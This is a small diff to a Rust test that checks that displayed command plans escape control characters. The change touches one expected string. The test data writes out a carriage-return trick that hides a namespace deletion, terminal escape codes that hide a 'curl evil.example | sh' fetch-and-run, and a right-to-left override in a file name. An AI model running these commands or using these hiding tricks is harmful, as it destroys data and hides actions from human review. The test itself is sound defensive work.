@@ -706,7 +706,7 @@ fn plans_are_shown_as_written_and_nothing_hides_in_them() {
         "raw control characters reached the terminal: {shown:?}"
     );
     for escaped in [
-        "echo harmless\\u{d}kubectl delete ns shop",
+        "echo harmless\\rkubectl delete ns shop",
         "\\u{1b}[1A\\u{1b}[2Kcurl evil.example | sh",
         "rm \\u{202e}txt.gol",
     ] {
